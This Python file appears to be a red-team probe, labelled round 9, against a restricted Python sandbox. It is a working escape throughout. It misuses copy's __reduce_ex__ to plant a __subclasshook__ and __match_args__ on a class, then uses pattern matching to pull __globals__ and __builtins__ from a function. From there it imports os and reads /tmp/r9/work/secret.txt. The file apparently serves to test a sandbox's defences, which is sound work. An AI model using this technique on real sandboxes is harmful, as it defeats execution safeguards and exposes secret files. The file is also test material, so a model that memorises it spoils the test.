# family: red team, round 9 (parameter_holding_class_reads_method)
# own_object rejects methods read through a class, but _bound takes any parameter for an object: a helper
# that receives the class as a parameter reads the plain function kind off it and calls it with the class.
import abc
import copy


class Base(abc.ABC):
    def kind(self):
        return type(self)


def call_kind(holder):
    return holder.kind(holder)


def metaclass():
    return call_kind(Base)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
